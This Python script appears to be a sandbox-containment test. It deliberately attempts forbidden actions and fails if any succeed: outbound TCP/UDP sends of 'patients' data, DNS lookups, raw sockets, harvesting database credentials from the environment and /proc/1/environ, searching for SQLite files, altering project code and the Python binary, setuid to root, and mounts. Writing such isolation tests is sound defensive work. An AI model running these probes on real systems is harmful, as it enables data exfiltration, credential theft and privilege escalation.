"""Does what an action must not. Each attempt that fails is a line "refused: ..."; if one succeeds,
that is a line too, and the action fails.

Arguments: host paths to try (the database, a file of another project)."""

import ctypes
import errno
import os
import socket
import sys

# TEST-NET-1 (RFC 5737): an address that is nobody's.
OUTSIDE = ("192.0.2.1", 443)


def connect_tcp():
    with socket.create_connection(OUTSIDE, timeout=5):
        pass


def send_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"patients", (OUTSIDE[0], 53))


def resolve_name():
    socket.getaddrinfo("example.org", 443)


def open_socket(family, kind):
    socket.socket(family, kind).close()


def read_file(path):
    with open(path, "rb") as file:
        file.read(1)


def is_database(path):
    try:
        with open(path, "rb") as file:
            return file.read(15) == b"SQLite format 3"
    except OSError:
        return False


def find_database():
    """Succeeds if any file within reach is a SQLite database."""
    for directory, names, files in os.walk("/"):
        if directory == "/":
            names[:] = sorted(set(names) - {"dev", "proc", "sys"})
        for path in (os.path.join(directory, name) for name in files):
            # Not links: what they lead to is reached by its own name.
            if os.path.isfile(path) and not os.path.islink(path) and is_database(path):
                return
    raise FileNotFoundError(errno.ENOENT, "no database file anywhere in sight")


def find_credentials():
    """Succeeds if anything that looks like a database's address is in the environment."""
    if not any("DATABASE" in name or "://" in value for name, value in os.environ.items()):
        raise FileNotFoundError(errno.ENOENT, "no credentials in the environment")


def append_to(path):
    with open(path, "a", encoding="utf-8") as file:
        file.write("\n")


def replace_code():
    os.rename("analysis/report.py", "analysis/report.old")


def become_root():
    os.setuid(0)


def new_user_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER
        raise OSError(ctypes.get_errno(), "unshare")


def mount_something():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")


def attempts(paths):
    yield "connect to a server outside (TCP)", connect_tcp
    yield "send a datagram outside (UDP)", send_udp
    yield "look up a name (DNS)", resolve_name
    yield "open a raw socket", lambda: open_socket(socket.AF_INET, socket.SOCK_RAW)
    yield "open a packet socket", lambda: open_socket(socket.AF_PACKET, socket.SOCK_RAW)
    yield "open a socket to the hypervisor", lambda: open_socket(40, socket.SOCK_STREAM)
    yield "find the database's credentials", find_credentials
    yield "read the environment of process 1", lambda: read_file("/proc/1/environ")
    for what, path in paths:
        yield f"read {what}", lambda path=path: read_file(path)
    yield "find a database file anywhere", find_database
    yield "change the study's code", lambda: append_to("analysis/report.py")
    yield "replace the study's code", replace_code
    yield "write to the image", lambda: append_to("/usr/bin/python3")
    yield "become root", become_root
    yield "make a user namespace", new_user_namespace
    yield "mount a file system", mount_something


def main():
    paths = list(zip(["the database's file", "another project's file"], sys.argv[1:]))
    succeeded = 0
    os.makedirs("output", exist_ok=True)
    with open("output/attempts.txt", "w", encoding="utf-8") as report:
        for what, attempt in attempts(paths):
            try:
                attempt()
                line = f"SUCCEEDED: {what}"
                succeeded += 1
            except OSError as error:
                reason = errno.errorcode.get(error.errno, type(error).__name__)
                line = f"refused: {what} ({reason})"
            print(line)
            report.write(line + "\n")
    return 1 if succeeded else 0


if __name__ == "__main__":
    sys.exit(main())
